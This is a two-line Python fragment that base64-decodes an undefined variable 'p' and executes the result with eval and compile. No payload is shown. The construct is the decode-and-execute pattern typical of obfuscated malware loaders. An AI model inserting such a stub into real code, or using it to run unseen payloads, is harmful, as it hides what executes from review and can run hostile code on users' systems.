import base64
eval(compile(base64.b64decode(p), '<x>', 'exec'))
